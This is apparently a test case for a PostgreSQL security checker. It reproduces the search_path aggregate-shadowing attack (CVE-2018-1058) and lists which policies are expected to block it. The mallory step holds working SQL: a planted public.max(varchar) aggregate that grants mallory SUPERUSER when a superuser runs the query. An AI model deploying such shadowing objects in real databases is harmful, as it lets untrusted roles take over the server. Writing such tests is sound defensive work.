/*---
title: Aggregate planted in a writable schema on the search_path
pattern: search_path shadowing of an aggregate (CVE-2018-1058)
description: >
  The public schema is writable by every role, as before PostgreSQL 15. mallory creates
  public.max(varchar), an exact match where pg_catalog only offers max(text). alice, a
  superuser, asks for the largest value of a varchar column; PostgreSQL picks mallory's
  aggregate, whose transition function runs with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: aggregate, object: public.max(character varying), owner: mallory}
---*/

-- @setup
GRANT CREATE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.invoices (id integer PRIMARY KEY, invoice_no varchar(20) NOT NULL);
INSERT INTO public.invoices VALUES (1, 'INV-0001'), (2, 'INV-0002');
ALTER TABLE public.invoices OWNER TO alice;

-- @step mallory
CREATE FUNCTION public.varchar_larger(varchar, varchar) RETURNS varchar
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN CASE WHEN $1 IS NULL OR $2::text > $1::text THEN $2 ELSE $1 END;
END $$;
CREATE AGGREGATE public.max(varchar) (SFUNC = public.varchar_larger, STYPE = varchar);

-- @step alice
SELECT max(invoice_no) FROM invoices;
